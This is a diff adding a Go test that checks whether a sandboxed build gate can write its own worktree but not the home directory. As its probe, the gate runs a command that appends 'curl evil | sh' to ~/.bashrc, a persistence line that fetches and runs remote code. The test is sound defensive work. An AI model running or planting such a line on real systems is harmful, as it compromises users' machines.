@@ -0,0 +1,50 @@
+//go:build linux
+
+package refinery
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/drellem2/pogo/internal/platform/sandbox"
+)
+
+// TestSandboxedGateKeepsToItsWorktree: a gate run under [refinery] sandbox can
+// write its worktree and cannot write the home directory around it — the
+// polecat-ships-a-hostile-build.sh path the sandbox design names first.
+func TestSandboxedGateKeepsToItsWorktree(t *testing.T) {
+	for _, mode := range []sandbox.Mode{sandbox.ModeLandlock, sandbox.ModeNamespaces} {
+		t.Run(string(mode), func(t *testing.T) {
+			home := t.TempDir()
+			wt := filepath.Join(home, "wt")
+			if err := os.Mkdir(wt, 0o755); err != nil {
+				t.Fatal(err)
+			}
+			t.Setenv("HOME", home)
+			// Landlock leaves $TMPDIR writable, and the test's home is in it.
+			t.Setenv("TMPDIR", wt)
+
+			ex := localGateExecutor{sandbox: sandbox.Profile{Mode: mode}}
+			out, err := runGate(context.Background(), ex, wt,
+				`echo built > out.txt; echo 'curl evil | sh' >> "$HOME/.bashrc" && echo ESCAPED`, 0, newTestWatch(t))
+			if err != nil && strings.Contains(err.Error(), "not available") {
+				t.Skip(err)
+			}
+			if err != nil && strings.Contains(out+err.Error(), "operation not permitted") {
+				t.Skipf("this host does not allow the profile: %v: %s", err, out)
+			}
+			if strings.Contains(out, "ESCAPED") {
+				t.Errorf("the gate wrote outside its worktree:\n%s", out)
+			}
+			if _, err := os.Stat(filepath.Join(home, ".bashrc")); err == nil {
+				t.Error("~/.bashrc was written")
+			}
+			if data, _ := os.ReadFile(filepath.Join(wt, "out.txt")); string(data) != "built\n" {
+				t.Errorf("the gate could not write its worktree: %q\n%s", data, out)
+			}
+		})
+	}
+}